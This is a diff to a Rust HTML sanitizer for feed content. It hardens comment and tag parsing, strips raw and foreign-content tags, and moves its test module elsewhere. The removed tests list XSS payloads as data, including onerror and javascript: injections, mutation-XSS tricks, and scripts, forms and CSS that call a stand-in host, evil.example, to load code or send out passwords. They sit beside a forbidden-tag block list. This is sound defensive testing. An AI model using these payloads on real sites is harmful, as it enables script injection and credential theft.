@@ -1,5 +1,8 @@
 //! The one gate through which feeds' HTML leaves the engine.
 
+#[cfg(test)]
+mod tests;
+
 use std::collections::{HashMap, HashSet};
 use std::sync::LazyLock;
 
@@ -83,12 +86,72 @@ static CLEANER: LazyLock<Builder<'static>> = LazyLock::new(|| {
 ///
 /// Markup nested deeper than 256 levels comes back as its plain text.
 pub fn safe_html(html: &str) -> String {
-    if is_too_deep(html) {
-        return plain_text(html);
+    let plain = unambiguous(html);
+    if is_too_deep(&plain) {
+        return plain_text(&plain);
     }
-    let clean = CLEANER.clean(html).to_string();
+    let clean = CLEANER.clean(&plain).to_string();
     // The parser may nest what the estimate took for neighbours; its output can be measured for certain.
     if is_too_deep(&clean) { plain_text(&clean) } else { clean }
+}
+
+/// `html` without what would make its parser read the rest in another way than `next_markup` does: comments,
+/// declarations, and the tags of foreign or raw content. Depth hidden in those would otherwise go unseen.
+fn unambiguous(html: &str) -> String {
+    let dropped = [
+        "iframe",
+        "math",
+        "noembed",
+        "noframes",
+        "noscript",
+        "plaintext",
+        "script",
+        "style",
+        "svg",
+        "textarea",
+        "title",
+        "xmp",
+    ];
+    let is_dropped = |name: &str| dropped.iter().any(|tag| tag.eq_ignore_ascii_case(name));
+    let mut kept = String::with_capacity(html.len());
+    let mut at = 0;
+    while let Some((start, end, markup)) = next_markup(html, at) {
+        push_text(&mut kept, &html[at..start]);
+        at = end;
+        match markup {
+            Markup::Open(name) if ["script", "style"].iter().any(|tag| tag.eq_ignore_ascii_case(name)) => {
+                at = end_of_raw(html, end);
+            }
+            Markup::Open(name) | Markup::Close(name) if !is_dropped(name) => kept.push_str(&html[start..end]),
+            _ => {}
+        }
+    }
+    push_text(&mut kept, &html[at..]);
+    kept
+}
+
+/// Where the end tag after `from` starts that may end a script or a style sheet.
+fn end_of_raw(html: &str, from: usize) -> usize {
+    let is_end = |tail: &[u8]| [&b"</script"[..], b"</style"].iter().any(|end| starts_with(tail, end));
+    let tail = &html.as_bytes()[from..];
+    (0..tail.len()).find(|&at| is_end(&tail[at..])).map_or(html.len(), |at| from + at)
+}
+
+fn starts_with(bytes: &[u8], prefix: &[u8]) -> bool {
+    bytes.get(..prefix.len()).is_some_and(|start| start.eq_ignore_ascii_case(prefix))
+}
+
+/// Appends text, so that no `<` in it can begin a tag.
+fn push_text(html: &mut String, text: &str) {
+    for character in text.chars() {
+        match character {
+            '<' => html.push_str("&lt;"),
+            '>' => html.push_str("&gt;"),
+            '"' => html.push_str("&quot;"),
+            '\'' => html.push_str("&#39;"),
+            other => html.push(other),
+        }
+    }
 }
 
 /// One piece of markup; text is what lies between.
@@ -136,15 +199,7 @@ fn plain_text(html: &str) -> String {
             Some((start, end, _)) => (start, end),
             None => (html.len(), html.len()),
         };
-        for character in html[at..start].chars() {
-            match character {
-                '<' => text.push_str("&lt;"),
-                '>' => text.push_str("&gt;"),
-                '"' => text.push_str("&quot;"),
-                '\'' => text.push_str("&#39;"),
-                other => text.push(other),
-            }
-        }
+        push_text(&mut text, &html[at..start]);
         if end == html.len() {
             return text;
         }
@@ -160,13 +215,19 @@ fn next_markup(html: &str, from: usize) -> Option<(usize, usize, Markup<'_>)> {
         let rest = &html[start + 1..];
         let end_of = |length: Option<usize>| length.map_or(html.len(), |length| start + 1 + length);
         if let Some(comment) = rest.strip_prefix("!--") {
-            return Some((start, end_of(comment.find("-->").map(|at| at + 6)), Markup::Other));
+            let length = match comment {
+                _ if comment.starts_with('>') => Some(1),
+                _ if comment.starts_with("->") => Some(2),
+                _ => comment.find("-->").map(|at| at + 3),
+            };
+            return Some((start, end_of(length.map(|length| length + 3)), Markup::Other));
         }
-        if rest.starts_with(['!', '?']) {
+        let is_end_of_nothing = rest.starts_with('/') && !rest[1..].starts_with(is_letter);
+        if rest.starts_with(['!', '?']) || is_end_of_nothing {
             return Some((start, end_of(rest.find('>').map(|at| at + 1)), Markup::Other));
         }
         let (name, closes) = rest.strip_prefix('/').map_or((rest, false), |name| (name, true));
-        if name.starts_with(|first: char| first.is_ascii_alphabetic()) {
+        if name.starts_with(is_letter) {
             let length = name.find(|c: char| c.is_ascii_whitespace() || matches!(c, '/' | '>'));
             let name = &name[..length.unwrap_or(name.len())];
             let markup = if closes { Markup::Close(name) } else { Markup::Open(name) };
@@ -176,19 +237,46 @@ fn next_markup(html: &str, from: usize) -> Option<(usize, usize, Markup<'_>)> {
     }
 }
 
+fn is_letter(character: char) -> bool {
+    character.is_ascii_alphabetic()
+}
+
 /// Bytes up to and including the `>` that ends a tag; one inside a quoted value does not.
+///
+/// The states of the HTML standard's tokenizer (section 13.2.5), from "tag name" on.
 fn tag_length(tag: &str) -> Option<usize> {
-    let mut quote = None;
-    let mut after_equals = false;
-    for (at, byte) in tag.bytes().enumerate() {
-        match (quote, byte) {
-            (Some(open), _) if open == byte => quote = None,
-            (Some(_), _) => {}
-            (None, b'>') => return Some(at + 1),
-            (None, b'"' | b'\'') if after_equals => quote = Some(byte),
-            (None, _) => {}
-        }
-        after_equals = byte == b'=' || (after_equals && byte.is_ascii_whitespace());
+    enum At {
+        BeforeName,
+        Name,
+        AfterName,
+        BeforeValue,
+        Value,
+        Quoted(u8),
+    }
+    // The tag's own name ends like an unquoted value: by a space, or by a slash.
+    let mut state = At::Value;
+    let mut in_tag_name = true;
+    // A slash right after "<" belongs to the name of an end tag.
+    for (at, byte) in tag.bytes().enumerate().skip(usize::from(tag.starts_with('/'))) {
+        let space = byte.is_ascii_whitespace();
+        state = match (state, byte) {
+            (At::Quoted(quote), _) if quote == byte => At::BeforeName,
+            (At::Quoted(quote), _) => At::Quoted(quote),
+            (_, b'>') => return Some(at + 1),
+            (At::Value, b'/') if in_tag_name => At::BeforeName,
+            (At::Value, _) if !space => At::Value,
+            (At::Value, _) => At::BeforeName,
+            (At::BeforeValue, b'"' | b'\'') => At::Quoted(byte),
+            (At::BeforeValue, _) if space => At::BeforeValue,
+            (At::BeforeValue, _) => At::Value,
+            (_, b'/') => At::BeforeName,
+            (At::Name | At::AfterName, b'=') => At::BeforeValue,
+            (At::Name | At::AfterName, _) if space => At::AfterName,
+            (At::BeforeName, _) if space => At::BeforeName,
+            // An equals sign here begins a name.
+            (At::Name | At::AfterName | At::BeforeName, _) => At::Name,
+        };
+        in_tag_name = in_tag_name && matches!(state, At::Value);
     }
     None
 }
@@ -199,108 +287,4 @@ fn is_void(name: &str) -> bool {
         "track", "wbr",
     ];
     void.iter().any(|tag| tag.eq_ignore_ascii_case(name))
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn attacks_leave_nothing_that_acts() {
-        let attacks = [
-            "<script>alert(1)</script>",
-            "<ScRiPt src=//evil.example></sCrIpT>",
-            "<img src=x onerror=alert(1)>",
-            "<image src=x onerror=alert(1)>",
-            "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
-            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>",
-            "<a href='javascript:alert(1)'>x</a>",
-            "<a href=' java\nscript:alert(1)'>x</a>",
-            "<a href='&#106;avascript:alert(1)'>x</a>",
-            "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
-            "<a href='vbscript:msgbox(1)'>x</a>",
-            "<a href='//evil.example/'>x</a>",
-            "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-            "<form action=https://evil.example><input name=password><button formaction=x>go</button></form>",
-            "<p style='background:url(https://evil.example/track)'>x</p>",
-            "<style>@import 'https://evil.example';</style>",
-            "<link rel=stylesheet href=https://evil.example><base href=https://evil.example>",
-            "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-            "<object data=https://evil.example></object><embed src=https://evil.example>",
-            "<video src=https://evil.example autoplay><audio src=x onerror=alert(1)>",
-            "<div onclick=alert(1) onmouseover='alert(1)'>x</div>",
-            "<p id=app class=dialog name=location>x</p>",
-            "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-            "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
-            "<!--><img src=x onerror=alert(1)>-->",
-            "<<script>alert(1)//<</script>",
-            "<template><img src=x onerror=alert(1)></template>",
-            "<details open ontoggle=alert(1)>x</details>",
-        ];
-        let forbidden = [
-            "<script",
-            "<img",
-            "<image",
-            "<svg",
-            "<math",
-            "<iframe",
-            "<form",
-            "<input",
-            "<button",
-            "<style",
-            "<link",
-            "<base",
-            "<meta",
-            "<object",
-            "<embed",
-            "<video",
-            "<audio",
-            "<template",
-            "<textarea",
-        ];
-        for attack in attacks {
-            for clean in [safe_html(attack), plain_text(attack)] {
-                let lower = clean.to_ascii_lowercase();
-                for tag in forbidden {
-                    assert!(!lower.contains(tag), "{tag} is left of {attack}: {clean}");
-                }
-                // Attributes exist only inside a tag; the same letters in text are harmless.
-                let mut at = 0;
-                while let Some((start, end, _)) = next_markup(&lower, at) {
-                    let tag = &lower[start..end];
-                    at = end;
-                    for word in ["on", "style", "href", "src", "id=", "class", "name="] {
-                        assert!(!tag.contains(&format!(" {word}")), "{word} is left of {attack}: {clean}");
-                    }
-                }
-            }
-        }
-    }
-
-    #[test]
-    fn harmless_markup_stays_and_links_pass_nothing_on() {
-        let html = "<p>Cook &amp; <b>chef</b><br></p><ul><li>soup</li></ul>";
-        assert_eq!(safe_html(html), html);
-        assert_eq!(
-            safe_html("<a href=\"https://example.org/\" target=\"_blank\">apply</a>"),
-            "<a href=\"https://example.org/\" rel=\"noopener noreferrer nofollow\">apply</a>"
-        );
-        assert!(safe_html("<a href='mailto:jobs@example.org'>x</a>").contains("mailto:jobs@example.org"));
-    }
-
-    #[test]
-    fn too_deep_nesting_comes_back_as_plain_text() {
-        let deep = format!("{}soup < 5 &amp; more{}", "<div>".repeat(100_000), "</div>".repeat(100_000));
-        assert_eq!(safe_html(&deep), "soup &lt; 5 &amp; more");
-        let hidden = "<div><!--</div>--><b title='</div>'></b></i>".repeat(300) + "soup";
-        assert_eq!(safe_html(&hidden), "soup", "end tags that end nothing must not hide the depth");
-    }
-
-    #[test]
-    fn a_long_flat_text_is_not_taken_for_a_deep_one() {
-        for piece in ["<p>soup", "<li>soup", "soup<br>", "<p><b>soup</b></p>", "a < b "] {
-            let clean = safe_html(&piece.repeat(2_000));
-            assert!(piece == "a < b " || clean.matches('<').count() >= 2_000, "{piece} lost its markup");
-        }
-    }
 }
